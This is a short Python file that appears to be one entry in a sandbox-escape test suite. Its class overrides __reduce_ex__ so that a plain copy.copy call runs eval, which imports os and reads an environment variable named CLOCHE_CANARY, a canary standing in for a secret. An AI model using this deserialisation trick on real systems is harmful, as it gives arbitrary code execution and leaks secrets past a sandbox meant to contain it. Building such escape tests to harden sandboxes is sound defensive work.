"""Class: deserialisation. Source: own find. Escape: copy calls what __reduce_ex__ answers."""

import copy


class A:
    def __reduce_ex__(self, p):
        return (eval, ("__import__('os').environ['CLOCHE_CANARY']",))


def attack(model, tokenizer, address):
    return copy.copy(A())
